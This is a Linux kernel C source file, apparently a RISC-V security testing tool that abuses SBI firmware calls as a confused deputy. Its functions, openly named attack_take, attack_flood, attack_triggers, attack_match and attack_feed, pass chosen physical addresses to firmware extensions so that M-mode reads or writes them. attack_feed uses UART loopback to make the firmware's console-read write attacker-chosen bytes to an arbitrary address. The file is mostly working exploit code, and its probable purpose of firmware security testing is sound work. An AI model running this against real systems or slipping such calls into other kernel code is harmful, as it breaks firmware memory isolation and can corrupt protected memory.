// SPDX-License-Identifier: GPL-2.0
/*
 * The firmware as a deputy: calls of its extensions that name memory, for M-mode to
 * read or to write. What a function takes beside an address and a count is good.
 */
#include <linux/array_size.h>
#include <linux/console.h>
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/preempt.h>
#include <linux/serial_reg.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <asm/sbi.h>

#include "attack.h"
#include "sbicall.h"

#define ALONE		(-1)	/* no argument is the count: there is one */

#define UART		0x10000000UL
#define UART_BYTES	8

static const struct taker takers[] = {
	{ "console-write", SBI_DBCN, 0, .addr = 1, .count = 0 },
	{ "console-read", SBI_DBCN, 1, .addr = 1, .count = 0 },
	{ "snapshot", SBI_PMU, 7, .addr = 0, .count = ALONE },
	{ "event-info", SBI_PMU, 8, .addr = 0, .count = 2 },
	{ "read-attributes", SBI_SSE, 0, .addr = 3, .count = 2, { SSE_LOCAL, 0 } },
	{ "write-attributes", SBI_SSE, 1, .addr = 3, .count = 2, { SSE_LOCAL, 1 } },
	{ "trigger-memory", SBI_DBTR, DBTR_SETUP, .addr = 0, .count = ALONE },
	{ "steal-time", 0x535441, 0, .addr = 0, .count = ALONE },
	{ "nested-memory", 0x4e41434c, 1, .addr = 0, .count = ALONE },
	{ "proxy-memory", 0x4d505859, 1, .addr = 0, .count = ALONE },
	{ "proxy-memory-1.6", 0x4d505859, 0, .addr = 1, .count = 0 },
	{ "experimental", 0x08000001, 0, .addr = 0, .count = 1 },
	{ "vendor", 0x09000000, 0, .addr = 0, .count = 1 },
	{ "firmware", 0x0a000001, 0, .addr = 0, .count = 1 },
};

/**
 * sbi_taker() - a function that takes memory, by its name
 * @name: the name
 */
const struct taker *sbi_taker(const char *name)
{
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(takers); i++)
		if (!strcmp(takers[i].name, name))
			return &takers[i];
	return NULL;
}

/**
 * sbi_take() - call it
 * @t: the function
 * @pa: physical address that it is to take
 * @high: what is beside it, for the upper half
 * @count: how many, if that can be said
 */
struct sbiret sbi_take(const struct taker *t, u64 pa, u64 high, u64 count)
{
	unsigned long arg[6] = { t->arg[0], t->arg[1] };

	arg[t->addr] = pa;
	arg[t->addr + 1] = high;
	if (t->count != ALONE)
		arg[t->count] = count;
	return sbi_ecall(t->eid, t->fid, arg[0], arg[1], arg[2], arg[3], arg[4], arg[5]);
}

static void report(struct seq_buf *out, struct sbiret ret)
{
	seq_buf_printf(out, "error=%ld value=%#lx\n", ret.error, ret.value);
}

/** attack_takers() - the functions that "take" knows, with their numbers */
int attack_takers(const u64 *arg, struct seq_buf *out)
{
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(takers); i++)
		seq_buf_printf(out, "name=%s eid=%#lx fid=%#lx\n", takers[i].name, takers[i].eid,
			       takers[i].fid);
	return 0;
}

/**
 * attack_take() - FUNCTION PA COUNT HIGH: let M-mode take that memory
 * @name: the function
 * @arg: the numbers
 * @out: its answer
 *
 * Memory that a hart is given for its triggers is taken away again.
 */
int attack_take(const char *name, const u64 *arg, struct seq_buf *out)
{
	const struct taker *t = sbi_taker(name);
	struct sbiret ret;

	if (!t)
		return -EINVAL;
	preempt_disable();
	ret = sbi_take(t, arg[0], arg[2], arg[1]);
	if (t->eid == SBI_DBTR && !ret.error)
		sbi_take(t, ~0UL, ~0UL, 0);
	preempt_enable();
	report(out, ret);
	return 0;
}

/** attack_flood() - PA N: the same refused call, often */
int attack_flood(const u64 *arg, struct seq_buf *out)
{
	const struct taker *t = sbi_taker("console-write");
	u64 i, refused = 0;

	if (arg[1] > ATTACK_ROUNDS_MAX)
		return -EINVAL;
	for (i = 0; i < arg[1]; i++)
		refused += !!sbi_take(t, arg[0], 0, 1).error;
	seq_buf_printf(out, "refused=%llu\n", refused);
	return 0;
}

/** attack_match() - BASE MASK FLAGS EVENT: numbers of counters that are no counters' */
int attack_match(const u64 *arg, struct seq_buf *out)
{
	report(out, sbi_ecall(SBI_PMU, 2, arg[0], arg[1], arg[2], arg[3], 0, 0));
	return 0;
}

/** attack_triggers() - PA FID A0 A1: a DBTR function, with shared memory at PA */
int attack_triggers(const u64 *arg, struct seq_buf *out)
{
	const struct taker *memory = sbi_taker("trigger-memory");
	struct sbiret ret;

	preempt_disable();
	ret = sbi_take(memory, arg[0], 0, 0);
	seq_buf_printf(out, "memory=%ld ", ret.error);
	if (!ret.error) {
		ret = sbi_ecall(SBI_DBTR, arg[1], arg[2], arg[3], 0, 0, 0, 0);
		sbi_take(memory, ~0UL, ~0UL, 0);
	}
	preempt_enable();
	report(out, ret);
	return 0;
}

/* --- a console that says what we like -------------------------------------------------- */

static void drain(void __iomem *uart)
{
	unsigned int i;

	for (i = 0; i < 64 && (readb(uart + UART_LSR) & UART_LSR_DR); i++)
		readb(uart + UART_RX);
}

/* What is sent is received, so the firmware reads from its console what we send. */
static struct sbiret feed(void __iomem *uart, u64 pa, u64 count, u64 value)
{
	u8 mcr = readb(uart + UART_MCR), ier = readb(uart + UART_IER);
	struct sbiret ret;
	unsigned int i;

	writeb(0, uart + UART_IER);
	writeb(mcr | UART_MCR_LOOP, uart + UART_MCR);
	drain(uart);
	for (i = 0; i < UART_BYTES; i++)
		writeb(value >> (8 * i), uart + UART_TX);
	ret = sbi_take(sbi_taker("console-read"), pa, 0, count);
	drain(uart);
	writeb(mcr, uart + UART_MCR);
	writeb(ier, uart + UART_IER);
	return ret;
}

/** attack_feed() - PA COUNT VALUE: 8 bytes that the firmware's console says, to PA */
int attack_feed(const u64 *arg, struct seq_buf *out)
{
	void __iomem *uart = ioremap(UART, 0x100);
	unsigned long flags;
	struct sbiret ret;
	u64 now;

	if (!uart)
		return -ENOMEM;
	console_lock();
	msleep(50); /* until what was sent has left */
	local_irq_save(flags);
	ret = feed(uart, arg[0], arg[1], arg[2]);
	local_irq_restore(flags);
	console_unlock();
	iounmap(uart);
	if (copy_from_kernel_nofault(&now, __va(arg[0]), sizeof(now)))
		return -EFAULT;
	seq_buf_printf(out, "now=%#llx ", now);
	report(out, ret);
	return 0;
}
